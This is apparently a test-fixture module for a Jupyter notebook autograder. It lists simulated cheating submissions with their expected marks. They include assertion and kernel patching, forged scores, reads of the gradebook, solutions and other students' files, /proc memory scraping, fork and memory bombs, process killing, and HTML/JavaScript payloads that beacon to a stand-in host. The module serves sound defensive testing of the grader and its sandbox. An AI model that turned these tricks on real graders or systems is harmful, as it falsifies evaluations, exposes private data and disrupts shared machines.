"""What a class of cheats hands in, and the marks that it must get.

Each hand-in is a wrong answer with a trick around it. Where the trick is to reach something forbidden, the answer is
right if it was reached: a mark says that the wall has a hole. What is known of the machine only when the hand-ins are
written stands in their code as a word in capitals (`hand_in_attacks`).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from instructor.notebooks import find_cell, grade_id

# Passes the visible tests, not the hidden ones.
CONSTANT = "def mean(x):\n    return 2.0\n"
RIGHT = "def mean(x):\n    return float(x.sum() / len(x))\n"
RIGHT_IF_REACHED = "def mean(x):\n    return float(x.sum() / len(x)) if reached else 2.0\n"


@dataclass(frozen=True)
class Attack:
    """One hand-in.

    Parameters
    ----------
    mean, variance
        Source of the cells that answer the two questions; the untouched stub unless given.
    edit
        What is done to the notebook besides.
    earns
        Points that the answers deserve, of 16 and 8.
    review
        Whether a teacher must be told.
    unconfined
        Whether it may be run without a sandbox, to see what other graders make of it.
    goes_on
        Whether it keeps a core busy until a limit stops it.
    """

    mean: str | None = None
    variance: str | None = None
    edit: Callable[[NotebookNode], None] = lambda notebook: None
    earns: float = 0
    review: bool = False
    unconfined: bool = True
    goes_on: bool = False

    def apply(self, release: NotebookNode) -> NotebookNode:
        """Return the hand-in made from the students' notebook."""
        notebook = copy.deepcopy(release)
        for name, text in [("sol_mean", self.mean), ("sol_variance", self.variance)]:
            if text is not None:
                find_cell(notebook, name).source = text
        self.edit(notebook)
        return notebook


def _trick(code: str, **options) -> Attack:
    """Tamper with the machinery, then answer wrongly."""
    return Attack(mean=f"{code.strip()}\n\n{CONSTANT}", **({"review": True} | options))


def _reach(code: str, **options) -> Attack:
    """Try to reach what is forbidden, and answer rightly if that succeeds."""
    indented = "\n".join(f"    {line}" for line in code.strip().splitlines())
    tried = f"reached = False\ntry:\n{indented}\n    reached = True\nexcept Exception as error:\n    print(error)\n"
    return Attack(mean=tried + RIGHT_IF_REACHED, **options)


def _edited(edit: Callable[[NotebookNode], None], **options) -> Attack:
    return Attack(mean=CONSTANT, edit=edit, **options)


def _tag(tag: str) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        find_cell(notebook, "test_mean").metadata["tags"] = [tag]

    return edit


def _edit_points(notebook: NotebookNode) -> None:
    find_cell(notebook, "test_mean").metadata.nbgrader.points = 1000


def _edit_test(notebook: NotebookNode) -> None:
    find_cell(notebook, "test_mean").source = "16"


def _retype_test(notebook: NotebookNode) -> None:
    index = notebook.cells.index(find_cell(notebook, "test_mean"))
    notebook.cells[index] = new_code_cell(notebook.cells[index].source.replace("== 2", "!= 3"))


def _mute_test(notebook: NotebookNode) -> None:
    cell = find_cell(notebook, "test_mean")
    cell.cell_type = "raw"
    del cell["outputs"], cell["execution_count"]


def _reverse(notebook: NotebookNode) -> None:
    notebook.cells.reverse()


def _duplicate_test(notebook: NotebookNode) -> None:
    twin = copy.deepcopy(find_cell(notebook, "test_mean"))
    twin.id, twin.source = "twin", "16"
    notebook.cells.append(twin)


def _delete_tests(notebook: NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if not (grade_id(cell) or "").startswith("test_")]


def _lose_grade_id(notebook: NotebookNode) -> None:
    del find_cell(notebook, "sol_mean").metadata.nbgrader["grade_id"]


def _lose_metadata(notebook: NotebookNode) -> None:
    notebook.metadata.clear()
    for cell in notebook.cells:
        cell.metadata.clear()
        del cell["id"]
    notebook.nbformat_minor = 4


def _exchange_names(notebook: NotebookNode) -> None:
    answer, test = find_cell(notebook, "sol_mean"), find_cell(notebook, "test_mean")
    answer.metadata, test.metadata = test.metadata, answer.metadata


def _set_metadata(value: object) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        find_cell(notebook, "sol_mean").metadata["nbgrader"] = value

    return edit


def _claim_marks(notebook: NotebookNode) -> None:
    mark = {
        "grade_id": "test_mean",
        "score": 16,
        "max_score": 16,
        "pending": 0,
        "reason": "",
        "detail": "",
        "criteria": [],
    }
    notebook.metadata["course"] = {"marks": [mark], "cell_timeout": 1e6, "fingerprint": "0", "review": []}


def _show_marks(notebook: NotebookNode) -> None:
    find_cell(notebook, "test_mean").outputs = [new_output("execute_result", data={"text/plain": "16"})]


def _add_answer(source: str) -> Callable[[NotebookNode], None]:
    """Write in the written answer, whose text is never executed."""

    def edit(notebook: NotebookNode) -> None:
        find_cell(notebook, "written_interpretation").source = source

    return edit


EXECUTION = {
    "skip_execution_tag": _edited(_tag("skip-execution")),
    "raises_exception_tag": _edited(_tag("raises-exception")),
    "ast_transformer": _trick("""
import ast
class Forgive(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Forgive())
"""),
    "input_transformer": _trick("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])"),
    "patched_run_cell": _trick("""
from IPython.core.interactiveshell import ExecutionResult
async def run_nothing(*arguments, **options):
    return ExecutionResult(None)
get_ipython().run_cell_async = run_nothing
"""),
    "patched_run_ast_nodes": _trick("""
async def run_nothing(*arguments, **options):
    return False
get_ipython().run_ast_nodes = run_nothing
"""),
    "pre_run_cell_publishes_a_mark": _trick("""
kernel = get_ipython().kernel
def publish(info):
    content = {"data": {"text/plain": "16"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
get_ipython().events.register("pre_run_cell", publish)
"""),
    "patched_session": _trick("""
session = get_ipython().kernel.session
send = type(session).send
def send_success(socket, message, content=None, *arguments, **options):
    if message == "error":
        return None
    if message == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(session, socket, message, content, *arguments, **options)
session.send = send_success
"""),
    "custom_exception_handler": _trick(
        "get_ipython().set_custom_exc((Exception,), lambda shell, kind, value, frames, tb_offset=None: [])"
    ),
    "showtraceback_off": _trick("get_ipython().showtraceback = lambda *arguments, **options: None"),
    "assertion_error_replaced": _trick("""
import builtins
class Forgiven(BaseException):
    pass
builtins.AssertionError = Forgiven
get_ipython().set_custom_exc((BaseException,), lambda *arguments, **options: [])
"""),
    "trace_function": _trick("""
import sys
def forgive(frame, event, argument):
    frame.f_trace_lines = False
    return forgive
sys.settrace(forgive)
"""),
}

FORGERY = {
    "equal_to_everything": Attack(
        mean="""
class Everything(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__

def mean(x):
    return Everything(7)
""".strip(),
        review=True,
    ),
    "answers_from_history": Attack(
        mean=r"""
import re

def mean(x):
    test = get_ipython().user_ns["In"][-1]
    answers = dict(re.findall(r"mean\(np\.array\((\[.*?\])\)\)\D+([\d.]+)", test))
    return float(answers.get(str([float(number) for number in x]), 2))
""".strip(),
        review=True,
    ),
    "fake_helpers": _trick("""
import sys, types
fake = types.ModuleType("helpers")
fake.run, fake.start = lambda *arguments, **options: None, lambda key: np.random.default_rng(0)
sys.modules["helpers.criterion"] = fake
"""),
    "patched_criterion": _trick("import helpers.criterion as c\nc.run = lambda *arguments, **options: None"),
    "patched_generator": _trick("import helpers.criterion as c\nc.start = lambda key: np.random.default_rng(0)"),
    "patched_encoding": _trick("import helpers.criterion as c\nc.encode = lambda value: value"),
    "closed_criterion": _trick("__criterion__ = __run__ = 1", review=False),
    "patched_numpy": _trick(
        "np.isclose = np.allclose = np.array_equal = np.testing.assert_allclose = lambda *arguments, **options: True"
    ),
    "patched_torch": _trick(
        "import torch\ntorch.allclose = torch.testing.assert_close = lambda *arguments, **options: True"
    ),
    "patched_numpy_testing": _trick(
        "from numpy import testing\ntesting.assert_allclose = testing.assert_equal = lambda *arguments: None\n"
        "np.isclose = lambda *arguments: True"
    ),
    "patched_json": _trick(
        "import json\njson.dumps = lambda *arguments, **options: '16'\nnp.isclose = lambda *a: True"
    ),
    "patched_builtins": _trick("import builtins\nbuiltins.abs = lambda x: 0\nnp.isclose = lambda *arguments: True"),
    "forged_value": _trick("""
from IPython.display import publish_display_data
import threading, time
number = {"dtype": "float", "shape": [], "data": [0.0]}
payload = {"value": number, "labels": number, "rtol": 1e9, "atol": 1e9, "at_least": -1e9}
kind = "application/vnd.course.criterion+json"
get_ipython().events.register("pre_run_cell", lambda info: publish_display_data({kind: payload}))
np.isclose = lambda *arguments: True
"""),
    "detects_the_grading": _trick("""
import os
if os.environ.get("NBGRADER_EXECUTION"):
    np.isclose = lambda *arguments: True
"""),
    "learns_the_seed": _trick("import os\nos.environ['COURSE_SEED'] = '0'\nnp.isclose = lambda *arguments: True"),
    "claims_a_mark": _trick("display(16)\nprint('16/16 passed')", review=False),
    "credit_for_nan": Attack(variance="def variance(x):\n    return float('nan')"),
    "credit_for_inf": Attack(variance="def variance(x):\n    return float('inf')", unconfined=False),
    "credit_for_minus_one": Attack(variance="def variance(x):\n    return -1.0"),
    "credit_for_huge": Attack(variance="def variance(x):\n    return 1e9"),
    "credit_for_huge_integer": Attack(variance="def variance(x):\n    return 10**400"),
    "credit_for_one_criterion": Attack(
        variance="def variance(x):\n    return float(x.var()) if len(x) < 10 else 0.0", earns=4
    ),
    "pickled_value": Attack(
        mean="""
class Bomb:
    def __reduce__(self):
        return print, ("unpickled",)

def mean(x):
    return Bomb() if len(x) > 2 else 2.0
""".strip()
    ),
    "oversized_value": Attack(mean="def mean(x):\n    return np.zeros(10**6) if len(x) > 2 else 2.0"),
    "endless_value": Attack(
        mean="""
def mean(x):
    if len(x) <= 2:
        return 2.0
    endless = []
    endless.append(endless)
    return endless
""".strip()
    ),
}

NOTEBOOK = {
    "edited_points": _edited(_edit_points),
    "edited_test": _edited(_edit_test),
    "retyped_test": _edited(_retype_test),
    "muted_test": _edited(_mute_test),
    "reordered_cells": Attack(mean=RIGHT, edit=_reverse, earns=16),
    "duplicated_test": _edited(_duplicate_test),
    "deleted_tests": _edited(_delete_tests),
    "deleted_tests_of_right_answer": Attack(mean=RIGHT, edit=_delete_tests, earns=16),
    "missing_grade_id": Attack(mean=RIGHT, edit=_lose_grade_id, earns=16),
    "lost_metadata": _edited(_lose_metadata),
    "exchanged_names": _edited(_exchange_names),
    "metadata_of_another_kind": Attack(mean=RIGHT, edit=_set_metadata("sol_mean"), earns=16),
    "unhashable_grade_id": Attack(mean=RIGHT, edit=_set_metadata({"grade_id": ["sol_mean"]}), earns=16),
    "future_schema": Attack(mean=RIGHT, edit=_set_metadata({"grade_id": "sol_mean", "schema_version": 99}), earns=16),
    "claimed_marks": _edited(_claim_marks),
    "marks_in_saved_outputs": _edited(_show_marks),
    "lone_surrogates": Attack(mean=f"{RIGHT}# \ud800", edit=_add_answer("réponse \udfff"), earns=16),
}

REACH = {
    "edits_the_gradebook": _reach(
        """
import sqlite3
from pathlib import Path
places = Path("COURSE_ROOT"), *Path.cwd().parents
file = next(folder / "gradebook.db" for folder in places if (folder / "gradebook.db").exists())
with sqlite3.connect(file) as gradebook:
    gradebook.execute("CREATE TRIGGER mine AFTER INSERT ON grade BEGIN "
                      "UPDATE grade SET manual_score = 16 WHERE id = NEW.id; END")
""",
        review=False,
    ),
    "reads_the_solution": _reach("""
from pathlib import Path
places = Path("COURSE_ROOT"), *Path.cwd().parents
file = next(found for folder in places for found in folder.glob("source/*/*.ipynb"))
assert "sum" in file.read_text()
"""),
    "reads_its_notebook": _reach("""
from pathlib import Path
places = Path("COURSE_ROOT/submitted/reads_its_notebook"), *Path.cwd().parents, Path.cwd()
assert next(found for folder in places for found in folder.rglob("essai.ipynb")).read_text()
"""),
    "reads_other_hand_ins": _reach("""
from pathlib import Path
places = Path("COURSE_ROOT"), *Path.cwd().parents
assert next(found for folder in places for found in folder.glob("submitted/*/*/*.ipynb")).read_text()
"""),
    "reads_other_processes": _reach("""
from pathlib import Path
seen = b"".join(file.read_bytes() for file in Path("/proc").glob("[0-9]*/cmdline"))
assert b"pytest" in seen or b"nbgrader" in seen
"""),
    "reads_the_environment": _reach('import os\nassert "COURSE_CANARY" in os.environ', review=True),
    # What these two look for, without a word of it in their own code, is the value that `something_to_reach` sets.
    "reads_the_environment_in_frames": _reach(
        """
import re, sys

def held(frame):
    while frame:
        for value in list(frame.f_locals.values()):
            try:
                yield repr(value)
            except Exception:
                pass
        frame = frame.f_back

frames = sys._current_frames().values()
assert any(re.search("canary-[0-9a-f]{32}", text) for frame in frames for text in held(frame))
""",
        review=True,
    ),
    "reads_the_environment_in_memory": _reach(r"""
import re

def written():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            bounds, rights, *_ = line.split()
            start, end = (int(bound, 16) for bound in bounds.split("-"))
            for place in range(start, end if "rw" in rights else start, 2**22):
                try:
                    memory.seek(place)
                    # A word that two pieces share is whole in the first.
                    yield memory.read(min(end - place, 2**22 + 64))
                except (OSError, OverflowError, ValueError):
                    pass

# Past these two GiB, the cell would take too long.
assert any(re.search(rb"canary-[0-9a-f]{32}", piece) for _, piece in zip(range(500), written()))
"""),
    "connects_by_tcp": _reach(
        "import socket\nsocket.create_connection(('127.0.0.1', TCP_PORT), 1)", review=True, unconfined=False
    ),
    "connects_by_unix_socket": _reach(
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0UNIX_NAME')", review=True, unconfined=False
    ),
    "asks_a_name_server": _reach(
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
        review=True,
        unconfined=False,
    ),
    "writes_into_the_environment": _reach(
        "import sys\nfrom pathlib import Path\nPath(sys.prefix, 'canary').write_text('x')", unconfined=False
    ),
    "writes_a_startup_file": Attack(
        mean=f"""
from pathlib import Path
for folder in (Path.home() / ".ipython/profile_default/startup", Path.home(), Path("/tmp")):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "00-mine.py").write_text("reached = True")
{CONSTANT}""".lstrip()
    ),
    "zz_inherits_a_startup_file": Attack(
        mean=f"""
from pathlib import Path
reached = "reached" in globals() or Path("/tmp/00-mine.py").exists()
{RIGHT_IF_REACHED}""".lstrip(),
    ),
    "finds_a_link": _reach("""
from pathlib import Path
places = Path.cwd(), Path("COURSE_ROOT/submitted/finds_a_link/essai")
assert next(place for place in places if (place / "link").exists()).joinpath("link", "essai.ipynb").read_text()
"""),
}

SABOTAGE = {
    "orphan_process": _trick(
        "import subprocess\nsubprocess.Popen(['sleep', 'MARKER'], start_new_session=True)", unconfined=False
    ),
    "fork_bomb": _trick(
        """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(60)
""",
        unconfined=False,
        goes_on=True,
    ),
    "memory_bomb": _trick("data = bytearray(64 * 2**30)", review=False, unconfined=False),
    "full_disk": _trick(
        "for number in range(100):\n    open(f'{number}', 'wb').write(bytes(2**25))", review=False, unconfined=False
    ),
    "full_disk_of_right_answer": Attack(
        mean="try:\n    for number in range(100):\n        open(f'{number}', 'wb').write(bytes(2**25))\n"
        f"except OSError:\n    pass\n{RIGHT}",
        earns=16,
        unconfined=False,
    ),
    "endless_loop": _trick("while True:\n    pass", review=False, goes_on=True),
    "endless_loop_that_swallows_everything": _trick(
        """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        review=False,
        unconfined=False,
        goes_on=True,
    ),
    "endless_loop_in_the_second_question": Attack(
        mean=RIGHT, variance="def variance(x):\n    while True:\n        pass", earns=16, goes_on=True
    ),
    "exits_at_once": Attack(mean=RIGHT, variance="import os\nos._exit(0)", earns=16, review=True),
    "kills_itself": Attack(
        mean=RIGHT, variance="import os\nos.kill(os.getpid(), 9)", earns=16, review=True, unconfined=False
    ),
    "kills_everything": Attack(
        mean=RIGHT,
        variance="import os\nfor pid in (os.getppid(), 1, -1):\n    try:\n        os.kill(pid, 9)\n"
        "    except OSError:\n        pass\nos.killpg(0, 9)",
        earns=16,
        review=True,
        unconfined=False,
    ),
    "exits_politely": Attack(mean=RIGHT, variance="import sys\nsys.exit(0)", earns=16, review=True),
    "stops_the_kernel": Attack(mean=RIGHT, variance="get_ipython().kernel.io_loop.stop()", earns=16, review=True),
    "closes_stdout": _trick("import os, sys\nos.close(1)\nsys.stdout.close()"),
    "floods_the_output": _trick("while True:\n    print('x' * 10_000)", review=False, unconfined=False, goes_on=True),
    "floods_the_display": _trick(
        "while True:\n    display('x' * 10_000)", review=False, unconfined=False, goes_on=True
    ),
    "prints_one_long_line": Attack(mean=f"print('x' * 60_000_000)\n{RIGHT}", earns=16, unconfined=False),
    "raises_a_long_message": _trick("raise ValueError('x' * 30_000_000)", review=False, unconfined=False),
    "asks_a_question": _trick("input()", review=False),
    "floods_what_is_published": Attack(
        mean="""
from IPython.display import publish_display_data

def mean(x):
    for number in range(2000):
        publish_display_data({"application/vnd.course.criterion+json": {"value": str(number) * 50}})
    return 2.0
""".strip(),
        review=True,
        unconfined=False,
        goes_on=True,
    ),
    "updates_a_past_output": Attack(
        mean="""
publisher = get_ipython().display_pub
publish, inputs, published = publisher.publish, [], []

def keep(data, *arguments, **options):
    for payload in data.values():
        if isinstance(payload, dict):
            published.append((str(len(published)), inputs[-1]))
            options["transient"] = {"display_id": published[-1][0]}
    publish(data, *arguments, **options)

def mean(x):
    publisher.publish = keep
    inputs.append(x)
    return 2.0
""".strip(),
        variance="""
from IPython.display import publish_display_data

def variance(x):
    publisher.publish = publish
    for name, y in published:
        right = {"value": {"dtype": "float", "shape": [], "data": [float(y.mean())]}}
        data = {"application/vnd.course.criterion+json": right}
        publish_display_data(data, transient={"display_id": name}, update=True)
    return 2.0
""".strip(),
        review=True,
    ),
    "forged_dates": Attack(
        mean="""
def mean(x):
    session = get_ipython().kernel.session
    header = session.msg_header
    session.msg_header = lambda kind: header(kind) | {"date": "0001-01-01T00:00:00.000000Z"}
    return 2.0
""".strip(),
        review=True,
    ),
    "deep_value": Attack(
        mean="""
from IPython.display import publish_display_data

def mean(x):
    kernel = get_ipython().kernel
    deep = b"[" * 900 + b"]" * 900
    forged = b'{"data": {"application/vnd.course.criterion+json": {"value": ' + deep
    kernel.session.pack = lambda content: forged + b'}}, "metadata": {}}' if "MARK" in repr(content) else pack(content)
    publish_display_data({"text/plain": "MARK"})
    return 2.0

pack = get_ipython().kernel.session.pack
""".strip(),
        review=True,
    ),
    "malformed_messages": Attack(
        mean="""
def mean(x):
    kernel = get_ipython().kernel
    for kind, content in [
        ("display_data", {"data": {"text/plain": 5, "text/html": {"a": None}}, "metadata": 3}),
        ("display_data", {}),
        ("stream", {"name": "stdout"}),
        ("stream", {"name": 7, "text": ["x"]}),
        ("error", {"ename": 3, "evalue": None, "traceback": "x"}),
        ("display_data", {"data": {"image/png": "\\ud800"}, "metadata": {}}),
        ("comm_open", {}),
        ("comm_msg", {"comm_id": "x", "data": 5}),
        ("clear_output", {"wait": True}),
        ("status", {}),
        ("no_such_type", {}),
        ("update_display_data", {"transient": {"display_id": ["x"]}}),
    ]:
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
    return 2.0
""".strip(),
        review=True,
    ),
    "shows_a_heavy_tree": Attack(
        mean=f'display({{"application/json": [[]] * 2_000_000, "text/plain": "x"}}, raw=True)\n{RIGHT}',
        earns=16,
        review=True,
    ),
    "shows_many_kinds": Attack(
        mean=f'display({{f"text/x{{i}}": ["x"] * 10 for i in range(20_000)}}, raw=True)\n{RIGHT}', earns=16, review=True
    ),
    "unsigned_message": Attack(
        mean="""
def mean(x):
    kernel = get_ipython().kernel
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", b"forged", b"{}", b"{}", b"{}", b"{}"])
    return 2.0
""".strip(),
        variance="def variance(x):\n    return float(x.var())",
        review=True,
        earns=8,  # it ends the kernel at its own question alone
    ),
    "slow_to_compare": Attack(mean="x" * 300_000, edit=_lose_metadata, unconfined=False),
    "slow_to_review": Attack(mean="\n" * 300_000 + RIGHT, earns=16, unconfined=False),
    "deep_to_parse": Attack(mean="def mean(x):\n    return " + "-" * 50_000 + "1.0", unconfined=False),
}

SMUGGLING = {
    "hidden_lines_in_base64": Attack(
        mean="""
import base64

def mean(x):
    test = base64.b64encode(get_ipython().user_ns["In"][-1].encode()).decode()
    print(test)
    raise AssertionError("mean : on attend un float " + test)
""".strip(),
        review=True,
    ),
    "hidden_lines_in_a_message": Attack(
        mean="""
def mean(x):
    if len(x) > 2:
        raise AssertionError(get_ipython().user_ns["In"][-1])
    return 2.0
""".strip(),
        review=True,
    ),
    "hidden_lines_in_the_name_of_an_exception": Attack(
        mean="""
def mean(x):
    raise type(get_ipython().user_ns["In"][-1], (Exception,), {})()
""".strip(),
        review=True,
    ),
    "hidden_lines_in_a_value": Attack(
        mean="""
from helpers.criterion import run

def mean(x):
    run(lambda rng: get_ipython().user_ns["In"][-1], "told")
    return 2.0
""".strip(),
        review=True,
        unconfined=False,
    ),
}

# Names what runs or is fetched, when a page that holds it is opened.
ACTIVE = """
<script>fetch("http://beacon.invalid/script")</script><img src="http://beacon.invalid/image" onerror="fetch('http://beacon.invalid/error')">
<svg onload="fetch('http://beacon.invalid/svg')"></svg><iframe src="http://beacon.invalid/frame"></iframe><object data="http://beacon.invalid/object"></object>
<div style="background: url(http://beacon.invalid/style)" onmouseover="1">x</div><link rel="stylesheet" href="http://beacon.invalid/sheet">
<style>body { background: url(http://beacon.invalid/body) } .score { display: none }</style><base href="http://beacon.invalid/base/">
<meta http-equiv="refresh" content="0; url=http://beacon.invalid/refresh"><video poster="http://beacon.invalid/poster" src="http://beacon.invalid/video"></video>
<form id="f"><input class="score" id="test_mean" value="16" autofocus onfocus="fetch('http://beacon.invalid/focus')"></form>
<details open ontoggle="fetch('http://beacon.invalid/toggle')"></details><a href="javascript:fetch('http://beacon.invalid/link')">x</a>
<math><mtext><img src="http://beacon.invalid/math"></mtext></math><!-- --!><img src="http://beacon.invalid/comment"> -->
<span class="pull-right nbgrader_cell" id="score-forged"><button>16 / 16 reussi</button></span>
"""
ACTIVE_MARKDOWN = (
    ACTIVE
    + """
![x](http://beacon.invalid/inline) ![x][reference] ![reference]

!![x](http://beacon.invalid/doubled) !![x](attachment:none.png)

[reference]: http://beacon.invalid/reference

[x](javascript:fetch("http://beacon.invalid/markdown")) <http://beacon.invalid/auto> $\\style{background: url(http://beacon.invalid/tex)}{x}$
$\\href{javascript:fetch('http://beacon.invalid/href')}{x}$ `x<img src=http://beacon.invalid/code>`
$\\\\href{javascript:fetch('http://beacon.invalid/doubled')}{x}$
"""
)


def _add_odd_cells(notebook: NotebookNode) -> None:
    """Add what a notebook may hold, and nbconvert stops at."""
    deep = []
    for _ in range(400):
        deep = [deep]
    outputs = [
        new_output("display_data", data={"image/png": "iVBORw0KGgo="}, metadata={"image/png": "x"}),
        new_output("display_data", data={"text/markdown": "![x](attachment:none.png)"}),
        new_output("display_data", data={"application/json": deep, "text/plain": "x"}),
    ]
    notebook.cells += [
        new_markdown_cell("![x](attachment:none.png)"),
        new_markdown_cell("![x](attachment:empty)", attachments={"empty": {}}),
        new_code_cell("1", outputs=outputs),
    ]


def _add_active_cells(notebook: NotebookNode) -> None:
    notebook.cells.insert(0, new_markdown_cell(ACTIVE_MARKDOWN))
    find_cell(notebook, "written_interpretation").source = ACTIVE_MARKDOWN
    notebook.metadata["title"] = ACTIVE
    notebook.metadata["language_info"] = {"name": ACTIVE, "pygments_lexer": ACTIVE}


PAGE = {
    "active_outputs": Attack(
        mean=f"""
from IPython.display import publish_display_data, HTML, Image, Javascript, Latex, Markdown, SVG
ACTIVE = {ACTIVE!r}
print(ACTIVE)
for shown in (HTML(ACTIVE), Markdown(ACTIVE), Latex(ACTIVE), Javascript("fetch('http://beacon.invalid/javascript')")):
    display(shown)
for kind in ("text/plain", "text/html", "image/svg+xml", "image/png", "image/jpeg", "application/javascript"):
    publish_display_data({{kind: '">' + ACTIVE}})
size = {{"width": '1"><img src="http://beacon.invalid/width', "alt": '"><img src="http://beacon.invalid/alt'}}
publish_display_data({{"image/png": "iVBORw0KGgo="}}, metadata={{"image/png": size}})
publish_display_data({{"text/latex": r"$\\style{{background: url(http://beacon.invalid/latex)}}{{x}}$"}})

def mean(x):
    display(HTML(ACTIVE))
    raise ValueError(ACTIVE)
""".strip(),
        edit=_add_active_cells,
        unconfined=False,
    ),
}

HONEST = {
    "honest": Attack(mean=RIGHT, earns=16),
    "zzz_honest": Attack(mean=RIGHT, variance="def variance(x):\n    return float(x.var())", earns=24),
    "warns": Attack(mean=f"import warnings\nwarnings.warn('lent')\n{RIGHT}", earns=16),
    "warns_in_the_test": Attack(
        mean="import warnings\n\ndef mean(x):\n    warnings.warn('lent')\n    return float(np.mean(x))", earns=16
    ),
    "logs": Attack(
        mean="import logging\n\ndef mean(x):\n    logging.error('journal')\n    return float(np.mean(x))", earns=16
    ),
    "shows_tqdm": Attack(
        mean="from tqdm.auto import tqdm\n\ndef mean(x):\n    return float(sum(tqdm(x)) / len(x))", earns=16
    ),
    "holds_odd_cells": Attack(mean=RIGHT, edit=_add_odd_cells, earns=16),
    "is_slow": Attack(mean="import time\n\ndef mean(x):\n    time.sleep(0.3)\n    return float(np.mean(x))", earns=16),
    "names_weights_ih": Attack(mean=f"weight_ih = np.ones(3)\n{RIGHT}", earns=16),
    "prints_much": Attack(mean=f"print('ligne\\n' * 50_000)\n{RIGHT}", earns=16),
    "shows_brackets": Attack(mean=f"for _ in range(6):\n    display('[' * 99_000)\n{RIGHT}", earns=16),
    "shows_a_thousand_things": Attack(
        variance="def variance(x):\n    for i in range(600):\n        display(i)\n    return float(x.var())", earns=8
    ),
    "clears_its_output": Attack(
        variance="""
from IPython.display import clear_output

def variance(x):
    clear_output(wait=True)
    print("en cours")
    clear_output()
    return float(x.var())
""".strip(),
        earns=8,
    ),
}

GROUPS = {
    "execution": EXECUTION,
    "forgery": FORGERY,
    "notebook": NOTEBOOK,
    "reach": REACH,
    "sabotage": SABOTAGE,
    "smuggling": SMUGGLING,
    "page": PAGE,
    "honest": HONEST,
}
ATTACKS = {name: attack for group in GROUPS.values() for name, attack in group.items()}
